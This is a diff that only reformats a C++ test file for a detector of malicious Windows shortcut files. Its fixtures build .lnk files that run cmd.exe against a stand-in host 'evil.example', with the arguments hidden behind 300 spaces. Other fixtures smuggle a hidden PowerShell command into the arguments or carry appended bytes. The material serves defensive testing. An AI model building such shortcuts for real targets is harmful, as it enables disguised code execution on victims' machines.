@@ -36,10 +36,9 @@ std::string info_of(const Shortcut& shortcut) {
 // MS-SHLLINK: header, LinkInfo, a description, arguments, a block with variables, the end.
 std::string make_shortcut(const Shortcut& shortcut) {
   const bool has_info = !shortcut.local_path.empty();
-  std::string file = little_endian(0x4C, 4) +
-                     std::string("\x01\x14\x02\0\0\0\0\0\xC0\0\0\0\0\0\0\x46", 16) +
-                     little_endian(0x4U | 0x20U | 0x80U | (has_info ? 2U : 0U), 4) +
-                     std::string(52, '\0');
+  std::string file =
+      little_endian(0x4C, 4) + std::string("\x01\x14\x02\0\0\0\0\0\xC0\0\0\0\0\0\0\x46", 16) +
+      little_endian(0x4U | 0x20U | 0x80U | (has_info ? 2U : 0U), 4) + std::string(52, '\0');
   if (has_info) file += info_of(shortcut);
   file += counted("A document") + counted(shortcut.arguments);
   if (!shortcut.variables.empty()) {
@@ -63,9 +62,9 @@ std::string detail_of(const DocumentFindings& findings, std::string_view name) {
 }  // namespace
 
 TEST_CASE("a shortcut shows what it starts, padding taken out") {
-  const auto found = inspect(make_shortcut({.local_path = "C:\\Windows\\System32\\cmd.exe",
-                                            .arguments = std::string(300, ' ') +
-                                                         "/c start https://evil.example/a \"b\""}));
+  const auto found = inspect(make_shortcut(
+      {.local_path = "C:\\Windows\\System32\\cmd.exe",
+       .arguments = std::string(300, ' ') + "/c start https://evil.example/a \"b\""}));
   CHECK(detail_of(found, "shortcut") ==
         "C:\\Windows\\System32\\cmd.exe /c start https://evil.example/a \"b\"");
   CHECK(found.holds("shortcut_runs"));
@@ -79,7 +78,8 @@ TEST_CASE("a target that stands in variables, or runs by its arguments") {
   CHECK(inspect(make_shortcut({.variables = "%ComSpec%"})).holds("shortcut_runs"));
   CHECK(inspect(make_shortcut({.local_path = "C:\\x.exe", .arguments = "& PowerShell -w hidden"}))
             .holds("shortcut_runs"));
-  CHECK_FALSE(inspect(make_shortcut({.local_path = "C:\\Data\\cmdline.docx"})).holds("shortcut_runs"));
+  CHECK_FALSE(
+      inspect(make_shortcut({.local_path = "C:\\Data\\cmdline.docx"})).holds("shortcut_runs"));
 }
 
 TEST_CASE("a target on another machine") {
@@ -89,8 +89,8 @@ TEST_CASE("a target on another machine") {
 }
 
 TEST_CASE("bytes behind the end are what a shortcut carries") {
-  const auto found = inspect(
-      make_shortcut({.local_path = "C:\\a.exe", .behind = std::string(5000, 'x')}));
+  const auto found =
+      inspect(make_shortcut({.local_path = "C:\\a.exe", .behind = std::string(5000, 'x')}));
   CHECK(detail_of(found, "shortcut_carries") == "5000 bytes");
 }
 
